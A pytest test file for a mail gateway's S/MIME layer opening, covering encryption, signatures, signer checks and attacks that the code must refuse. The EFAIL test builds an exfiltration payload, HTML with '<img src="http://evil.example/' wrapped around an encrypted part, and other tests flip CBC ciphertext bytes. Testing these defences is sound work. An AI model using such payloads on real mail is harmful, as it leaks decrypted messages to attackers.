"""Layers of a message: which are opened, what is said of them, and what is never shown to anybody."""

from __future__ import annotations

import re
from base64 import b64decode, encodebytes
from collections.abc import Callable
from functools import partial

import pytest
from asn1crypto import cms

from gateway.mail.mime.head import head_of
from gateway.mail.opened import Opened
from gateway.smime.cms import der
from gateway.smime.cms.algorithms import AES256_CBC, AES256_GCM, COMPRESSED_DATA, CONTENT_CIPHERS, ContentCipher
from gateway.smime.cms.enveloped import seal_enveloped
from gateway.smime.cms.recipients import recipient
from gateway.smime.opening import MAX_LAYERS
from gateway.smime.trust import Trust
from tests.fakes import mail_keys
from tests.fakes.chance import FakeChance
from tests.fakes.smime_messages import HEAD, MESSAGE, TEXT, encrypted, facts, opened, signed, told

WORDS = b"the amber lantern"
EIGHT_BIT = b"\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"


def shows(found: Opened) -> bool:
    """Whether what was sealed can be read."""
    return found.octets is not None and WORDS in found.octets


def repacked(message: bytes, change: Callable[[bytearray], bytes]) -> bytes:
    """The message with what stands in its base64 changed."""
    head, _, body = message.partition(b"\r\n\r\n")
    der = change(bytearray(b64decode(body)))
    return head + b"\r\n\r\n" + encodebytes(der).replace(b"\n", b"\r\n")


def flipped(der: bytearray, place: int) -> bytes:
    der[place] ^= 0x5A
    return bytes(der)


# -- layers -----------------------------------------------------------------------------------------------------------


def test_a_message_without_layers_is_shown_as_it_is() -> None:
    assert opened(MESSAGE) == Opened(layers=(), octets=MESSAGE)


def test_the_reader_sees_the_header_of_the_outside_with_the_innermost_entity() -> None:
    for message in (encrypted(), signed(), signed(opaque=True), encrypted(signed()), signed(encrypted())):
        assert opened(message).octets == MESSAGE


def test_the_view_has_each_field_of_mime_once() -> None:
    inner = HEAD + b"Content-Type: text/plain\r\nMIME-Version: 1.0\r\n\r\nx\r\n"
    octets = opened(encrypted(inner)).octets or b""
    assert head_of(octets.partition(b"\r\n\r\n")[0] + b"\r\n", 0).is_sound
    assert octets.count(b"MIME-Version") == octets.count(b"Content-Type") == 1


def test_a_triple_wrap_is_opened_to_its_heart() -> None:
    """RFC 2634 1.1: signed, encrypted, and signed once more."""
    found = opened(signed(encrypted(signed(MESSAGE, "rsa")), "rsa"))
    assert told(found) == ["good rsa@corp.example", "enveloped", "good rsa@corp.example"]
    assert found.octets == MESSAGE


def test_an_enveloped_layer_tells_its_algorithm_and_whose_key_opened_it() -> None:
    found = opened(encrypted(MESSAGE, "p256", cipher=AES256_GCM), "p256")
    assert found.layers[0].row() == {
        "layer": "enveloped",
        "ok": True,
        "recipient": "p256@corp.example",
        "algorithm": "aes256-gcm",
    }


def test_more_layers_than_anybody_makes_are_not_opened() -> None:
    message = MESSAGE
    for _ in range(MAX_LAYERS):
        message = signed(message, "p256", opaque=True)
    assert opened(message).octets == MESSAGE
    found = opened(signed(message, "p256", opaque=True))
    assert told(found)[-1] == "closed too-many-layers"
    assert found.octets is None


@pytest.mark.parametrize(
    "fields",
    [
        b"Content-Type: application/octet-stream; name=smime.p7m",
        b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n filename*=utf-8''secret.P7M",
        b"Content-Type: application/x-pkcs7-mime",
        b'Content-Type: APPLICATION/PKCS7-MIME; smime-type="signed-data"',  # It says one thing and is another.
    ],
)
def test_the_content_says_what_it_is_whatever_the_type_says(fields: bytes) -> None:
    """smime-02, smime-20: octet-stream with a name, an old type, a wrong smime-type."""
    body = encrypted().partition(b"\r\n\r\n")[2]
    message = HEAD + fields + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + body
    assert told(opened(message)) == ["enveloped"]
    assert shows(opened(message))


def test_other_octet_streams_are_left_alone() -> None:
    message = HEAD + b"Content-Type: application/octet-stream; name=a.p7m.txt\r\n\r\nx\r\n"
    assert opened(message) == Opened(layers=(), octets=message)


def test_bare_text_that_was_encrypted_is_shown_as_text() -> None:
    found = opened(_raw(b"the amber lantern\nand more\n"))
    assert told(found) == ["enveloped"]
    assert (found.octets or b"").endswith(b"Content-Type: text/plain\r\n\r\nthe amber lantern\r\nand more\r\n")


def _raw(content: bytes, cipher: ContentCipher = AES256_CBC) -> bytes:
    """A message whose envelope holds exactly these octets."""
    people = [recipient(mail_keys.certificate("rsa"))]
    der = seal_enveloped(content, people, cipher, FakeChance())
    head = b"Content-Type: application/pkcs7-mime; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return HEAD + head + encodebytes(der).replace(b"\n", b"\r\n")


# -- what can't be opened ---------------------------------------------------------------------------------------------


def test_without_a_key_of_ours_it_stays_closed() -> None:
    found = opened(encrypted(MESSAGE, "p256"), "rsa")
    assert found.layers[0].row() == {
        "layer": "enveloped",
        "ok": False,
        "recipient": None,
        "algorithm": "aes256-cbc",
        "reason": "no-recipient-of-ours",
    }
    assert found.octets is None


@pytest.mark.parametrize("body", [b"", b"=", b"A", b"MIIB", b"not base64 at all!", b"MAA=\r\n"])
def test_what_is_no_cms_is_said_to_be_broken(body: bytes) -> None:
    head = b"Content-Type: application/pkcs7-mime; smime-type=%s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    for kind in (b"enveloped-data", b"signed-data"):
        found = opened(HEAD + head % kind + body)
        assert len(found.layers) == 1
        assert found.layers[0].reason in ("structure-broken", "encoding-broken")
        assert (found.layers[0].status == "bad") == (kind == b"signed-data")
        assert found.octets is None


def test_what_is_compressed_is_told_as_such() -> None:
    """RFC 3274: openssl cms -compress. A rule that looks for a broken message does not find one."""
    data = der.sequence(der.integer(0), der.algorithm(der.oid_octets("1.2.840.113549.1.9.16.3.8")), der.sequence())
    info = der.sequence(der.oid(COMPRESSED_DATA), der.explicit(0, data))
    head = b"Content-Type: application/pkcs7-mime; smime-type=compressed-data\r\nContent-Transfer-Encoding: base64\r\n"
    message = HEAD + head + b"\r\n" + encodebytes(info)
    found = opened(message)
    assert told(found) == ["closed compressed"]
    assert not found.layers[0].hides
    assert told(opened(encrypted(message))) == ["enveloped", "closed compressed"]


def test_a_weak_cipher_is_told_beside_what_it_gave() -> None:
    """3DES is read, since old mail has it; whoever carried it may have read it too."""
    triple = next(one for one in CONTENT_CIPHERS.values() if one.name == "des-ede3-cbc")
    found = opened(encrypted(cipher=triple))
    assert found.octets == MESSAGE
    (layer,) = found.layers
    assert (layer.ok, layer.algorithm, layer.reason) == (True, "des-ede3-cbc", "weak-algorithm")


def test_certificates_alone_are_no_signature() -> None:
    message = signed(opaque=True)
    empty = repacked(message, lambda der: _without_signers(bytes(der)))
    assert told(opened(empty)) == ["bad signature-missing"]


def _without_signers(der: bytes) -> bytes:
    info = cms.ContentInfo.load(der)
    info["content"]["signer_infos"] = []
    octets: bytes = info.dump(force=True)
    return octets


# -- EFAIL ------------------------------------------------------------------------------------------------------------


def test_an_encrypted_part_beside_others_is_never_opened() -> None:
    """CVE-2017-17689: HTML in front of the part and behind it would carry away what was inside."""
    part = encrypted(TEXT)
    kind = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    html = b"--b\r\nContent-Type: text/html\r\n\r\n%s\r\n"
    message = HEAD + kind + html % b'<img src="http://evil.example/' + b"--b\r\n" + part + html % b'">' + b"--b--\r\n"
    found = opened(message)
    assert told(found) == ["closed not-the-whole-message"]
    assert found.octets is None
    wrapped = opened(signed(message))
    assert told(wrapped) == ["good rsa@corp.example", "closed not-the-whole-message"]
    assert wrapped.octets is None


def test_a_signed_part_beside_others_is_no_layer() -> None:
    """As lists make it, who add a footer: it speaks for a part and not for the message."""
    inner = signed(TEXT)
    message = HEAD + b"Content-Type: multipart/mixed; boundary=l\r\n\r\n--l\r\n" + inner + b"\r\n--l--\r\n"
    assert opened(message) == Opened(layers=(), octets=message)


def test_octets_that_were_changed_under_cbc_are_never_shown() -> None:
    """CVE-2017-17688: who changes a block turns the one before it into chance, which no writer of mail sends."""
    message = encrypted(HEAD + TEXT + b"one line of text\r\n" * 40)
    end = len(b64decode(message.partition(b"\r\n\r\n")[2]))
    for place in range(100, 700, 37):
        broken = repacked(message, partial(flipped, place=end - place))
        found = opened(broken)
        assert told(found) in (["closed content-broken"], ["closed content-damaged"]), place
        assert found.octets is None


def test_octets_that_were_changed_under_gcm_are_damage() -> None:
    message = encrypted(MESSAGE, cipher=AES256_GCM)
    assert told(opened(repacked(message, partial(flipped, place=-60)))) == ["closed content-damaged"]


@pytest.mark.parametrize(
    "content",
    [
        b"Content-Type: text/plain\r\n\r\nthe amber lantern \x01\x02\r\n",
        b"Content-Type: text/plain; x=\xff\xfe\r\n\r\nthe amber lantern\r\n",
        b"Content-Type: text/plain\r\n\r\nthe amber lantern \xe4\xf6\r\n",
        b"Content-Type: text/plain; charset=utf-8" + EIGHT_BIT + b"the amber lantern \xe4\r\n",
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nthe amber lantern!\r\n",
        b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nthe amber lantern\r\n",
        b"Content-Type: text/plain\r\nnot a field\r\n\r\nthe amber lantern\r\n",
        b"Content-Type: multipart/mixed\r\n\r\nthe amber lantern\r\n",
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\nthe amber lantern\xff\r\n--b\r\n\r\nx\r\n--b--\r\n",
        b"Content-Type: text/plain\r\n\r\nthe amber\rlantern the amber lantern\r\n",
        b"the amber lantern \x00\r\n",
    ],
)
def test_cbc_content_with_a_fault_is_never_shown(content: bytes) -> None:
    found = opened(_raw(content))
    assert told(found) == ["closed content-broken"]
    assert found.octets is None
    # Under GCM nobody can have changed it: the sender wrote it so, and rules read it.
    assert shows(opened(_raw(content, AES256_GCM))) or b"lantern" not in content


@pytest.mark.parametrize(
    "content",
    [
        TEXT,
        b'Content-Type: text/plain; charset=utf-8; name="Gr\xc3\xbc\xc3\x9fe"\r\n\r\nthe amber lantern\r\n',
        b"Content-Type: text/plain; charset=utf-8" + EIGHT_BIT + b"the amber lantern \xc3\xa4\r\n",
        b"Content-Type: text/plain; charset=latin1" + EIGHT_BIT + b"the amber lantern \xe4\r\n",
        b"Content-Type: text/plain\r\nContent-Transfer-Encoding: binary\r\n\r\nthe amber lantern \x00\xff\r\n",
        b"Content-Type: text/plain\n\nthe amber lantern\n",
    ],
)
def test_cbc_content_without_a_fault_is_shown(content: bytes) -> None:
    assert told(opened(_raw(content))) == ["enveloped"]
    assert shows(opened(_raw(content)))


def test_what_a_signature_inside_cbc_disowns_is_not_shown() -> None:
    inner = signed().replace(b"amber lantern", b"amber lanters")
    found = opened(encrypted(inner))
    assert told(found) == ["enveloped", "bad rsa@corp.example digest-mismatch"]
    assert found.octets is None
    # Outside of encryption everybody can read it, so rules do.
    assert opened(inner).octets is not None


def test_what_a_signature_proves_may_look_as_it_likes() -> None:
    """An opaque signature holds over content that CBC alone would not be believed with."""
    odd = HEAD + b"Content-Type: text/plain\r\n\r\nthe amber lantern \x01\r\n"
    assert shows(opened(encrypted(signed(odd, opaque=True))))
    found = opened(encrypted(signed(odd, opaque=True)), by=Trust())
    assert told(found) == ["enveloped", "bad rsa@corp.example certificate-not-trusted"]
    assert shows(found)


# -- signatures -------------------------------------------------------------------------------------------------------


def test_a_changed_text_is_told() -> None:
    found = opened(signed().replace(b"amber", b"umber"))
    assert told(found) == ["bad rsa@corp.example digest-mismatch"]


def test_a_signer_that_nobody_vouches_for_is_told() -> None:
    assert told(opened(signed(), by=Trust())) == ["bad rsa@corp.example certificate-not-trusted"]


def test_a_signature_in_another_name_is_told() -> None:
    """RFC 8550 3: a good signature of somebody says nothing about a message from somebody else."""
    message = signed(MESSAGE.replace(b"RSA <rsa@corp.example>", b"Boss <boss@corp.example>"))
    assert told(opened(message)) == ["bad rsa@corp.example signer-mismatch"]


def test_a_sender_may_sign_for_the_author() -> None:
    message = signed(MESSAGE.replace(b"From: RSA", b"Sender: rsa@corp.example\r\nFrom: Boss <boss@corp.example>, x"))
    assert told(opened(message)) == ["good rsa@corp.example"]


@pytest.mark.parametrize(
    "field", [b"From: RSA <rsa@corp.example", b'From: "rsa@corp.example" <boss@corp.example>', b"From: <>"]
)
def test_an_author_who_can_be_read_in_two_ways_is_nobody(field: bytes) -> None:
    message = signed(MESSAGE.replace(b"From: RSA <rsa@corp.example>", field))
    assert told(opened(message)) == ["bad rsa@corp.example signer-mismatch"]


def test_case_does_not_count_in_the_author_s_address() -> None:
    message = signed(MESSAGE.replace(b"rsa@corp.example", b"Rsa@Corp.Example"))
    assert told(opened(message)) == ["good rsa@corp.example"]


def test_an_entity_without_author_claims_nothing() -> None:
    assert told(opened(signed(TEXT))) == ["good rsa@corp.example"]


def test_who_names_the_signer_s_certificate_itself_gets_the_reason_beside_the_status() -> None:
    message = signed(MESSAGE.replace(b"RSA <rsa@corp.example>", b"boss@corp.example"))
    found = opened(message, by=Trust([facts("rsa")]))
    assert told(found) == ["good rsa@corp.example signer-mismatch"]


def test_one_of_several_signers_is_the_author() -> None:
    assert told(opened(signed(MESSAGE, "p256", "rsa"))) == ["good p256@corp.example", "good rsa@corp.example"]
    message = signed(MESSAGE, "p256", "p384")
    assert told(opened(message)) == [
        "bad p256@corp.example signer-mismatch",
        "bad p384@corp.example signer-mismatch",
    ]


def test_many_signers_of_one_layer_are_one_layer() -> None:
    found = opened(encrypted(signed(MESSAGE, *["rsa", *(f"p256:{number}" for number in range(MAX_LAYERS + 1))])))
    assert len(found.layers) == MAX_LAYERS + 3
    assert found.octets == MESSAGE


def test_an_untrusted_co_signer_does_not_stand_in_for_the_author() -> None:
    """Else who makes himself a certificate for the boss and signs beside it with his own good one is believed."""
    message = signed(MESSAGE, "rsa", "p256")
    found = opened(message, by=Trust([facts("p256")]))
    assert told(found) == ["good p256@corp.example signer-mismatch", "bad rsa@corp.example certificate-not-trusted"]


def test_an_inner_signature_is_of_whoever_wrote_what_was_passed_on() -> None:
    assert told(opened(signed(signed(MESSAGE, "p256")))) == ["good rsa@corp.example", "good p256@corp.example"]


def test_a_signer_whose_certificate_is_not_inside_is_found_among_those_known() -> None:
    message = repacked(signed(opaque=True), lambda der: _without_certificates(bytes(der)))
    assert told(opened(message)) == ["bad certificate-missing"]
    assert told(opened(message, known=(facts("p256"), facts("rsa")))) == ["good rsa@corp.example"]


def _without_certificates(der: bytes) -> bytes:
    info = cms.ContentInfo.load(der)
    del info["content"]["certificates"]
    octets: bytes = info.dump(force=True)
    return octets


def test_what_stands_behind_a_clear_signature_is_signed_by_nobody() -> None:
    message = signed()
    found = re.search(rb"\r\n(--=_smime_[0-9a-f]+)--\r\n\Z", message)
    assert found is not None
    added = message[: found.start()] + b"\r\n" + found[1] + b"\r\n\r\npay at once\r\n" + found[1] + b"--\r\n"
    alone = opened(added)
    assert told(alone) == ["bad structure-broken", "good rsa@corp.example"]
    assert alone.octets is None  # Rules read the message as it came, with all that its readers are shown.
    inner = opened(encrypted(added, cipher=AES256_GCM))
    assert told(inner) == ["enveloped", "bad structure-broken", "good rsa@corp.example"]
    assert b"pay at once" in (inner.octets or b"")


@pytest.mark.parametrize("opaque", [True, False])
@pytest.mark.parametrize(
    "line", [b"Content-Type: multipart/mixed; boundary=b", b"Content-Transfer-Encoding: 8bit", b"see below, at once"]
)
def test_what_readers_take_for_different_things_is_not_opened(line: bytes, opaque: bool) -> None:
    """Who sent a signature under a second type had rules read what was signed, and readers what stood behind it."""
    message = signed(opaque=opaque)
    front = b"" if opaque else b"Content-Transfer-Encoding: 7bit\r\n"  # The other has one of base64.
    odd = message.replace(b"\r\n\r\n", b"\r\n" + front + line + b"\r\n\r\n", 1)
    found = opened(odd)
    assert told(found) == ["bad structure-broken"]
    assert found.octets is None
    inner = opened(encrypted(odd, cipher=AES256_GCM))
    assert told(inner)[0] == "enveloped"
    assert line.startswith(b"see") or inner.octets is not None  # That line ends what our sealing takes for fields.


def test_an_envelope_that_readers_take_for_something_else_stays_shut() -> None:
    odd = encrypted().replace(b"\r\n\r\n", b"\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n", 1)
    found = opened(odd)
    assert told(found) == ["closed structure-broken"]
    assert not shows(found)


@pytest.mark.parametrize(
    "change",
    [
        lambda message: message.partition(b"Content-Type: application/pkcs7-signature")[0],
        lambda message: message.replace(b"application/pkcs7-signature;", b"text/plain;").replace(b".p7s", b".txt"),
        lambda message: message.replace(b'boundary="', b'boundary=""; x="'),
        lambda message: message.replace(b"\r\n\r\n", b"\r\nContent-Type: text/html\r\n\r\n", 1),
        lambda message: message.replace(b"MIME-Version", b"Content-Transfer-Encoding: base64\r\nMIME-Version"),
    ],
)
def test_a_clear_signature_in_pieces_is_bad(change: Callable[[bytes], bytes]) -> None:
    found = opened(change(signed(MESSAGE)))
    assert told(found) == ["bad structure-broken"]
    assert found.octets is None


def test_a_clear_signature_in_damaged_base64_is_bad() -> None:
    message = re.sub(rb"(filename=\"smime.p7s\"\r\n\r\n)[^-]*", rb"\1A\r\n", signed())
    assert told(opened(message)) == ["bad encoding-broken"]


def test_a_certificate_that_proves_little_makes_a_signature_weak() -> None:
    """RFC 8550 4.3: a key of 1,024 bits."""
    message = signed(MESSAGE.replace(b"rsa@corp", b"rsa-1024@corp"), "rsa-1024")
    assert told(opened(message))[0].startswith("weak rsa-1024@corp.example ")


def test_an_encrypted_part_that_can_t_be_read_is_no_secret() -> None:
    part = b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: %s\r\n\r\nA\r\n"
    for encoding in (b"base64", b"uuencode", b"7bit"):
        parts = b"--b\r\n" + part % encoding + b"--b--\r\n"
        message = HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts
        assert opened(message) == Opened(layers=(), octets=message)


def test_a_signature_that_is_only_named_so_is_read() -> None:
    message = signed().replace(
        b'application/pkcs7-signature; name="smime.p7s"', b'application/octet-stream; name="x.p7s"'
    )
    assert told(opened(message)) == ["good rsa@corp.example"]


def test_a_message_of_10_000_parts_is_looked_through() -> None:
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    message = HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 9_999 + b"--b--\r\n"
    assert opened(encrypted(message)).octets is not None
    many = message.replace(b"--b--", part + b"--b--")
    # What was not looked at may hold anything.
    assert told(opened(encrypted(many))) == ["closed content-broken"]
